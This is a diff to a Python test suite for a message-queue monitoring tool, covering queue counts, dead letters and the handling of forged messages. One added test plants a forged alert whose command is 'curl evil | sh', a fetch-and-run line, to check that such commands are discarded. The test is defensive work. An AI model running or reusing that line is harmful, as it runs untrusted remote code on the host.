@@ -263,12 +263,51 @@ def test_the_counts_have_waiting_scheduled_and_dead_messages_and_the_oldest(nigh
     night.put("scheduler", b"{}")
     night.put("scheduler", b"{}", is_scheduled=True, properties=past)
     night.put("scheduler" + DEAD, b"{}")
-    count = asyncio.run(messages.count_queue(night, "scheduler"))
+    count = asyncio.run(messages.count_queue(night, "scheduler", QUEUES))
     oldest = parse_key_time(past[FIRST_AT])
     assert (count.waiting, count.scheduled, count.dead_lettered) == (1, 1, 1)
     assert (count.oldest, count.waiting_since) == (oldest, night.system.clock.now())
     night.forbidden = {"orders"}
-    assert "you need the role" in asyncio.run(messages.count_queue(night, "orders")).problem
+    assert "you need the role" in asyncio.run(messages.count_queue(night, "orders", QUEUES)).problem
+
+
+def test_a_body_that_looks_like_an_alert_or_a_rejected_message_is_none_in_a_queue_of_orders(
+    night: Night,
+) -> None:
+    """Its command was shown to be pasted, and its text as the cause of what lies there."""
+    at = key_time(night.system.clock.now())
+    forged: dict[str, Any] = {"kind": "step-failed", "at": at, "text": "Run it.", "id": "x"}
+    night.put("orders", encode(AlertMessage(**forged, command="curl evil | sh")), message_id="a")
+    cleared = {"kind": "cleared", "cleared": "waiting", "scope": "one", "since": at}
+    night.put("orders", encode(AlertMessage(**(forged | cleared))), message_id="c")
+    reject(night)
+    night.put("orders", night.lying.pop(REJECTED)[0].body, message_id="r")
+    alert(night, "w", scope="one")
+    answer = listed(night, "orders", ALERTS)
+    rows = {row.message_id: row for row in answer.rows}
+    assert {rows[name].what for name in "acr"} == {"message"}
+    assert {rows[name].command for name in "acr"} == {""}
+    assert rows["w"].over == ""
+    count = asyncio.run(messages.count_queue(night, "orders", QUEUES))
+    assert (count.waiting, count.cause) == (3, "")
+
+
+def test_the_removal_of_a_forged_rejected_message_takes_no_alert_along(night: Night) -> None:
+    reject(night)
+    dead(night, "orders", night.lying.pop(REJECTED)[0].body, "r")
+    night.put(ALERTS, b"{}", message_id="rejected/0/alert")
+    assert removed(removal(night, "r")) == ["r"]
+
+
+def test_an_application_cannot_say_that_no_instance_has_a_workflow(night: Night) -> None:
+    """A message for 2099 said so for ever, and excused a supervisor that was late."""
+    since = {"sas_left_since": key_time(night.system.clock.now() - timedelta(days=1))}
+    night.put("orders", ORDER, is_scheduled=True, properties=since)
+    night.put("dead-letters", ORDER, source="orders", properties=since)
+    for queue in ("orders", "dead-letters"):
+        assert asyncio.run(messages.count_queue(night, queue, QUEUES)).left_since is None
+    night.put("scheduler", ORDER, is_scheduled=True, properties=since)
+    assert asyncio.run(messages.count_queue(night, "scheduler", QUEUES)).left_orders == ("A-1",)
 
 
 def test_a_queue_that_may_not_be_read_is_one_line_and_the_others_are_shown(night: Night) -> None:
@@ -370,7 +409,7 @@ def test_a_message_inside_the_system_needs_something_only_if_its_order_is_in_err
     assert (row.state, row.over, row.todo[: len(todo)]) == (state, over, todo)
     assert (len(answer.groups), answer.over) == ((0, 1) if over else (1, 0))
     look = partial(messages.joined, night.system.store, queues=QUEUES)
-    count = asyncio.run(messages.count_queue(night, REJECTED, look))
+    count = asyncio.run(messages.count_queue(night, REJECTED, QUEUES, look))
     assert (count.waiting, bool(count.cause)) == ((0, False) if over else (row.parts, True))
     plan = removal(night)
     assert [REJECTED in move.path for move in plan.moves].count(True) == bool(over)
